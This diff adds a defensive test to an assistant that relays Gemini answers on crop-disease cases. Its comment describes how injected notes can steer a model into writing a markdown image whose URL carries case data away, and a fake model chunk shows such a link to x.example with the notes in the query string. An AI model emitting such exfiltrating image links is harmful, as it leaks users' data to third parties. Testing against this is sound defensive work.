@@ -224,6 +224,16 @@ def test_gemini_gets_instruction_case_guide_history_and_photo(fake_gemini, caplo
     assert not any(question in message for message in ours)
 
 
+def test_an_image_in_geminis_answer_is_shown_as_text_and_never_loaded(fake_gemini):
+    # Notes typed by someone else can steer the model into writing an image whose address
+    # carries the case away: the reader's browser would fetch it on display.
+    fake_gemini.chunks = ["See this!", "[map](https://x.example/?notes=wet", "+corner)."]
+    assistant = Assistant.from_settings(gemini_settings(fake_gemini))
+    text = read(assistant.answer("Where is it worst?", [], late_blight_case()))
+    assert text == "See this!\\[map](https://x.example/?notes=wet+corner)."
+    assert "![" not in text
+
+
 def test_without_a_photo_no_image_is_sent(fake_gemini):
     assistant = Assistant.from_settings(gemini_settings(fake_gemini))
     read(assistant.answer("How does it spread?", [], late_blight_case()))
